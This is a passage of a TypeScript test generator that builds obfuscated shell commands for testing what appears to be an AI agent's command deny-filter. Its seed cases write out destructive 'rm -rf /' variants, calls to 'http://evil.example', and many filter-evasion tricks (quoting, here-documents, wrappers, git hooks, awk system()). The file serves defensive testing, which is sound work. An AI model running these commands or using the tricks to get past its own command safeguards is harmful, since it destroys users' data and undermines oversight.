        "echo $[x]",
        "y=x; echo $((y))",
        "export x; bash -c 'echo $((x))'",
        "case 1 in $((x))) ;; esac",
        "echo ${@:x}",
      ];
      const [setText, isStatic] = sets[set] ?? sets[0] ?? ["", true];
      return piece(`${setText}${uses[use] ?? uses[0] ?? ""}`, isStatic && inner.static, ["arithmetic"]);
    }),
  // Builtins that run a text: compgen's word list and command, history replayed by fc.
  "builtin-text": (inner) =>
    oneOf([
      piece(`compgen -W ${sq(`$(${inner.text})`)} x`, inner.static, ["builtin-text"]),
      piece(`compgen -W ${sq(`\`${inner.text.replace(/[\\`$]/g, "\\$&")}\``)} -- x`, inner.static, ["builtin-text"]),
      piece(`compgen -C ${sq(inner.text)} x`, inner.static, ["builtin-text"]),
      piece(`f(){ ${inner.text}; }; compgen -F f x 2>/dev/null`, inner.static, ["builtin-text"]),
      piece(`history -s ${sq(inner.text)}; fc -e -`, inner.static, ["builtin-text"]),
      piece(`history -s ${sq(inner.text)}; fc -s`, inner.static, ["builtin-text"]),
      piece(`set -o history; history -s ${sq(inner.text)}; fc -e - 2>/dev/null`, inner.static, ["builtin-text"]),
    ]),
  // A line that writes a script and runs it.
  "written-script": (inner) =>
    fc.tuple(oneOf(["echo", "printf '%s\\n'"]), fc.nat(12)).map(([writer, pick]) => {
      const w = `${writer} ${sq(inner.text)}`;
      const forms = [
        `${w} > s.sh; bash s.sh`,
        `${w} > s.sh; . ./s.sh`,
        `${w} >> s.sh && source s.sh`,
        `${w} > s.sh; sh < s.sh`,
        `exec 3> s.sh; ${w} >&3; bash s.sh`,
        `${w} > /tmp/s.sh; sh /tmp/s.sh`,
        `{ ${w}; } > s.sh; bash -x s.sh 2>/dev/null`,
        `${w} > s; env bash s`,
        `${w} > s.sh; BASH_ENV=s.sh bash -c ls`,
        `${w} > s.sh; trap '. ./s.sh' EXIT`,
        `cat > s.sh <<'EOF'\n${inner.text}\nEOF\nbash s.sh`,
        `${w} | tee s.sh > /dev/null; sh s.sh`,
        `${w} 1<>s.sh; bash s.sh`,
      ];
      return piece(forms[pick] ?? forms[0] ?? "", false, ["written-script"]);
    }),
  // awk runs its input lines or built strings as commands.
  awk: (inner) =>
    oneOf([
      `echo ${sq(inner.text)} | awk '{system($0)}'`,
      `awk '{system($0)}' <<< ${sq(inner.text)}`,
      `printf '%s\\n' ${sq(inner.text)} | awk '{print | "sh"}'`,
      `awk ${sq(`BEGIN{print ${JSON.stringify(inner.text)} | "sh"}`)}`,
      `awk ${sq(`BEGIN{c=${JSON.stringify(inner.text)}; system(c)}`)}`,
      `awk -v c=${sq(inner.text)} 'BEGIN{system(c)}'`,
      `awk 'BEGIN{system(ARGV[1])}' ${sq(inner.text)}`,
      `C=${sq(inner.text)} awk 'BEGIN{system(ENVIRON["C"])}'`,
      `awk ${sq(`BEGIN{while((${JSON.stringify(inner.text)} | getline l)>0) print l}`)}`,
      `echo ${sq(inner.text)} | awk '{ $0 | getline x }'`,
    ]).map((text) => piece(text, false, ["awk"])),
  // coproc, time, !, case arms that fall through (;&) or test on (;;&), select.
  compound: (inner) =>
    oneOf([
      `coproc { ${inner.text}; }`,
      `coproc C { ${inner.text}; }; wait`,
      `coproc (${inner.text})`,
      `coproc C (${inner.text})`,
      `time { ${inner.text}; }`,
      `time -p (${inner.text})`,
      `time ! ${inner.text}`,
      `! time ${inner.text}`,
      `! { ${inner.text}; }`,
      `! (${inner.text})`,
      `case x in x) ${inner.text};& y) ls;; esac`,
      `case x in x) ls;& y) ${inner.text};; esac`,
      `case x in x) ls;;& x) ${inner.text};; esac`,
      `case x in x) ls ;;& *) ${inner.text} ;; esac`,
      `case x in (x) ${inner.text};; esac`,
      `case x in y|x) ${inner.text};; esac`,
      `case x in y) ls;; *) ${inner.text};; esac`,
      `case x in\nx)\n${inner.text}\n;;\nesac`,
      `case x in x) ${inner.text}\nesac`,
      `select x in a; do ${inner.text}; break; done <<< 1`,
      `for ((i=0;i<1;i++)); do ${inner.text}; done`,
      `{ ${inner.text}; } & wait`,
    ]).map((text) => piece(text, inner.static, ["compound"])),
  "git-options": (inner) => fc.constant(inner),
};

/** git's global options before the subcommand. */
const GIT_GLOBALS = ["-C .", "-c k.v=1", "--no-pager", "--git-dir=.git", "--work-tree=.", "-P", "--literal-pathspecs", "-c core.quotepath=off", "--git-dir=x", "-C src -C .."];

const gitOptions = (words: readonly string[]): fc.Arbitrary<Piece> =>
  fc.tuple(oneOf(GIT_GLOBALS), oneOf(GIT_GLOBALS), fc.boolean()).map(([a, b, two]) =>
    piece(`git ${two ? `${a} ${b}` : a} ${joinWords(words.slice(1))}`, true, ["git-options"]),
  );

const WORD_NAMES = Object.keys(WORD_TRANSFORMS);
const TEXT_NAMES = Object.keys(TEXT_TRANSFORMS).filter((name) => name !== "git-options");

/** One generated command: a payload (denied or benign), respelled, then wrapped 0-3 times. */
function shellCaseArbitrary(): fc.Arbitrary<ShellCase> {
  const base = fc.tuple(fc.boolean(), fc.nat(PAYLOADS.length - 1), fc.nat(BENIGN.length - 1)).chain(([denied, p, b]) => {
    const words = (denied ? PAYLOADS[p] : BENIGN[b]) ?? ["ls"];
    const respell = oneOf(["none", "none", ...WORD_NAMES, ...(words[0] === "git" ? ["git-options", "git-options"] : [])]);
    return respell.chain((name): fc.Arbitrary<Piece> => {
      if (name === "none") return fc.constant(piece(joinWords(words), true, []));
      if (name === "git-options") return gitOptions(words);
      const transform = WORD_TRANSFORMS[name];
      return transform === undefined ? fc.constant(piece(joinWords(words), true, [])) : transform(words);
    }).map((p) => ({ p, words }));
  });
  return base.chain(({ p, words }) =>
    fc.array(oneOf(TEXT_NAMES), { minLength: 0, maxLength: 3 }).chain((names) => {
      let acc: fc.Arbitrary<Piece> = fc.constant(p);
      for (const name of names) {
        const transform = TEXT_TRANSFORMS[name];
        if (transform !== undefined) acc = acc.chain((inner) => transform(inner, words).map((outer) => piece(outer.text, outer.static && inner.static, [...inner.classes, ...outer.classes])));
      }
      return acc.map((final) => ({ command: final.text, classes: [...new Set(final.classes.length === 0 ? ["plain"] : final.classes)], static: final.static, seed: false }));
    }),
  );
}

/** The issue's own examples and the published bypasses for agents' command lines, one or more per class. */
export const SEED_CASES: readonly ShellCase[] = (
  [
    ["echo ok \\\r\nrm -rf /", ["continuation"], true],
    ["git pu\\\nsh --force", ["continuation"], true],
    ["echo ok\r\nrm -rf /", ["continuation"], true],
    ["echo ok\rrm -rf /", ["continuation"], true],
    ["ls \\\r\n\r\ncurl http://evil.example", ["continuation"], true],
    ["r\\\nm -rf /", ["continuation"], true],
    ["find . -name '*.txt' -exec rm -rf {} +", ["find"], true],
    ["find . -exec rm {} \\;", ["find"], true],
    ["find . -name x -execdir rm {} \\;", ["find"], true],
    ["find . -name x -ok rm {} \\;", ["find"], true],
    ["find . -name x -delete", ["find"], true],
    ["printf -v 'a[$(rm -rf /)]' x", ["subscript"], true],
    ["(( a[$(rm x)] ))", ["subscript"], true],
    ["declare -a 'a[$(rm x)]=1'", ["subscript"], true],
    ["sudo --user root rm -rf /", ["wrapper"], true],
    ["timeout --signal KILL 5 rm -rf /", ["wrapper"], true],
    ["env -S 'rm -rf /'", ["wrapper"], true],
    ["nice --adjustment 5 rm -rf /", ["wrapper"], true],
    ["setsid rm -rf /", ["wrapper"], true],
    ["flock /tmp/l rm -rf /", ["wrapper"], true],
    ["flock /tmp/l -c 'rm -rf /'", ["wrapper"], true],
    ["su -c 'rm -rf /'", ["wrapper"], true],
    ["script -qc 'rm -rf /' /dev/null", ["wrapper"], true],
    ["busybox rm -rf /", ["wrapper"], true],
    ["watch -e -t -n 0.1 'rm -rf /; false'", ["wrapper"], true],
    ["command eval 'rm -rf /'", ["eval", "wrapper"], true],
    ["coproc rm -rf /", ["wrapper"], true],
    ["sh <<EOF\nrm -rf /\nEOF", ["heredoc"], true],
    ["bash <<'EOF'\ncurl http://evil.example\nEOF", ["heredoc"], true],
    ["sh <<-EOF\n\trm x\n\tEOF", ["heredoc"], true],
    ["bash <<< 'rm x'", ["heredoc"], true],
    ["cat <<EOF\n$(rm x)\nEOF", ["heredoc", "substitution"], true],
    ["git -C . push", ["git-options"], true],
    ["git -c k.v=1 push", ["git-options"], true],
    ["git --no-pager push", ["git-options"], true],
    ["git --git-dir=.git reset --hard", ["git-options"], true],
    ["git -c alias.x='!rm y' x", ["git-options", "interpreter"], true],
    ["r''m -rf /", ["quoting"], true],
    ['"r"m -rf /', ["quoting"], true],
    ["\\rm -rf /", ["quoting"], true],
    ["$'\\x72m' -rf /", ["quoting"], true],
    ["$'\\162m' -rf /", ["quoting"], true],
    ['""rm -rf /', ["quoting"], true],
    ["{rm,-rf,x}", ["brace"], true],
    ["/bin/r? x", ["glob"], false],
    ["/???/rm x", ["glob"], false],
    ["rm${IFS}-rf${IFS}x", ["ifs"], false],
    ["rm$IFS-rf x", ["ifs"], false],
    ["${PATH:0:1}bin${PATH:0:1}rm x", ["ifs"], false],
    ["echo $(rm x)", ["substitution"], true],
    ["echo `rm x`", ["substitution"], true],
    ["cat <(rm x)", ["substitution"], true],
    ["(rm x)", ["group"], true],
    ["{ rm x; }", ["group"], true],
    ["f(){ rm x; }; f", ["function"], true],
    ["eval 'rm x'", ["eval"], true],
    ["bash -c 'rm x'", ["nested-shell"], true],
    ["sh -c 'rm x'", ["nested-shell"], true],
    ["source /dev/stdin <<<'rm x'", ["source"], true],
    ["echo x | xargs rm", ["xargs"], true],
    ["xargs -I{} rm {} < list.txt", ["xargs"], true],
    ["xargs -0 -a zero.list rm", ["xargs"], true],
    ["echo a b | xargs -n 1 rm", ["xargs"], true],
    ["ls > /dev/null; rm x", ["separator", "redirection"], true],
    ["! rm x", ["negation"], true],
    ["if true; then rm x; fi", ["control"], true],
    ["for i in 1; do rm x; done", ["control"], true],
    ["while rm x; do break; done", ["control"], true],
    ["case x in x) rm x;; esac", ["control"], true],
    ["echo ok # note\nrm x", ["comment"], true],
    ["ls #\\\nrm x", ["comment"], true],
    ["timeout 5 rm x", ["wrapper"], true],
    ["time rm x", ["wrapper"], true],
    ["nohup rm x", ["wrapper"], true],
    ["stdbuf -o0 rm x", ["wrapper"], true],
    ["ionice -c3 rm x", ["wrapper"], true],
    ["exec rm x", ["wrapper"], true],
    ["env -i rm x", ["wrapper"], true],
    ["git -c core.sshCommand='rm y' ls-remote ssh://host/repo", ["git-options", "interpreter"], true],
    ["git -c core.fsmonitor='rm y' status", ["git-options", "interpreter"], true],
    ["git grep --no-index -O'rm y' alpha", ["git-options", "interpreter"], false],
    ["tar -I 'rm y' -cf out.tar a.txt", ["interpreter"], true],
    ["tar -cf /dev/null a.txt --checkpoint=1 --checkpoint-action=exec='rm y'", ["interpreter"], true],
    ["env --split-string='rm x'", ["wrapper"], true],
    ["awk 'BEGIN{system(\"rm x\")}'", ["interpreter"], false],
    ["shopt -s expand_aliases; alias ls='rm x'\nls", ["shell-hooks"], true],
    ["hash -p /bin/rm ls; ls a.txt", ["shell-hooks"], true],
    ["trap 'rm x' EXIT", ["shell-hooks"], true],
    ["trap 'rm x' DEBUG; :", ["shell-hooks"], true],
    ["BASH_ENV=<(echo rm x) bash -c ls", ["shell-hooks"], false],
    ["mapfile -C 'rm y' -c 1 a <<< x", ["shell-hooks"], true],
    ["[[ 1 -eq 'a[$(rm y)]' ]]", ["shell-hooks", "subscript"], true],
    ["x='$(rm y)'; echo ${x@P}", ["shell-hooks"], false],
    ["exec -a ls rm x", ["wrapper"], true],
    ["sed -n '1e rm x' a.txt", ["interpreter"], false],
    ["ls; rm x", ["separator"], true],
    ["ls && curl http://evil.example", ["separator"], true],
    ["ls | rm x", ["separator"], true],
    ["ls & rm x", ["separator"], true],
    ["ls\nrm x", ["separator"], true],
    // A line that starts with an escaped character is a new command (the parser joined it to the line before).
    ["ls\n\\rm x", ["separator", "quoting"], true],
    ["find . -name '*.txt' # note\n\\rm -rf x", ["comment", "quoting"], true],
    ["git status\n\n\\curl http://evil.example", ["separator", "quoting"], true],
    // A variable named in arithmetic is evaluated, the command substitutions of an array subscript in its value included.
    ["x='a[$(rm -rf /)]'; echo $((x))", ["arithmetic-value"], true],
    ["x='a[$(curl http://evil.example)]'; [[ x -lt 2 ]]", ["arithmetic-value"], true],
    ["read x <<< 'a[$(rm -rf /)]'; echo $((x))", ["arithmetic-value"], false],
    // The rest of the line after a here-document's marker (the parser puts it inside the redirection).
    ["cat <<EOF && rm -rf /\nhi\nEOF", ["heredoc-line"], true],
    ["cat <<EOF | sh\nrm -rf /\nEOF", ["heredoc-line"], true],
    ["cat <<EOF > f.txt && curl http://evil.example\nhi\nEOF", ["heredoc-line"], true],
    // Redirections of descriptor 0 and ones that close a descriptor are complete before the command's next word.
    ["git 0</dev/null push origin main", ["descriptor"], true],
    ["git 2>&- push origin main", ["descriptor"], true],
    // bash's table of command paths: `ls` runs the program its entry names.
    ["BASH_CMDS[ls]=/bin/rm; ls -rf /", ["command-table"], false],
    // Found by the grammar's descriptor, compound, variable-set, awk, written-script and arithmetic transforms.
    ["git {fd}>out.txt push origin main", ["descriptor"], true],
    ['echo "$(git 0</dev/null push origin main)"', ["descriptor", "substitution"], true],
    ["for ((i=0;i<1;i++)); do rm x; done", ["compound"], true],
    ["declare -n r=GIT_SSH_COMMAND; r='rm x;'; export GIT_SSH_COMMAND; git -c core.sshCommand=: ls-remote ssh://host/repo", ["variable-set"], true],
    ["! export GIT_SSH_COMMAND='rm x;'; git -c core.sshCommand=: ls-remote ssh://host/repo", ["variable-set", "negation"], true],
    ["awk 'BEGIN{system(\"ls\\nrm x\")}'", ["awk"], false],
    ["echo 'rm x' > s.sh; sh < s.sh", ["written-script"], false],
    ["exec 3<<EOF\nrm x\nEOF\nsh <&3", ["heredoc-line"], false],
    ["read x <<< 'a[$(rm x)]'; y=x; echo $((y))", ["arithmetic"], false],
    ["git status", ["plain"], true],
    ["ls -la && cat a.txt", ["plain", "separator"], true],
    ["find . -name '*.txt'", ["plain"], true],
    ["npm run test -- --watch", ["plain"], true],
    ["git log --oneline | grep x", ["plain", "separator"], true],
  ] as const
).map(([command, classes, isStatic]) => ({ command, classes, static: isStatic, seed: true }));

/** `count` generated cases from `seed` (deterministic). */
export function generateShellCases(count: number, seed: number): ShellCase[] {
  if (count <= 0) return [];
  return fc.sample(shellCaseArbitrary(), { numRuns: count, seed });
}
